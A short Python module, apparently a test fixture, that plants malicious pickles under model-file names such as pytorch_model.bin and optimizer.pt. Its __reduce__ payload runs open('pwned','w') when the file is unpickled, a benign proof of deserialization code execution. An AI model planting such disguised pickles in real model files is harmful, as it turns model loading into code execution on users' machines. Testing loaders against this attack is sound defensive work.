"""Pickled weights and state lie beside the safetensors file: whoever unpickles them runs what they say."""

import pickle
from pathlib import Path

REFUSED_BY = ()
SAYS = ""
SIGNED = True


class _Payload:
    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, ("pwned", "w")


def plant(directory: Path) -> None:
    for name in ("pytorch_model.bin", "training_args.bin", "optimizer.pt", "tokenizer.pkl", "skip_tables.pt"):
        (directory / name).write_bytes(pickle.dumps(_Payload()))
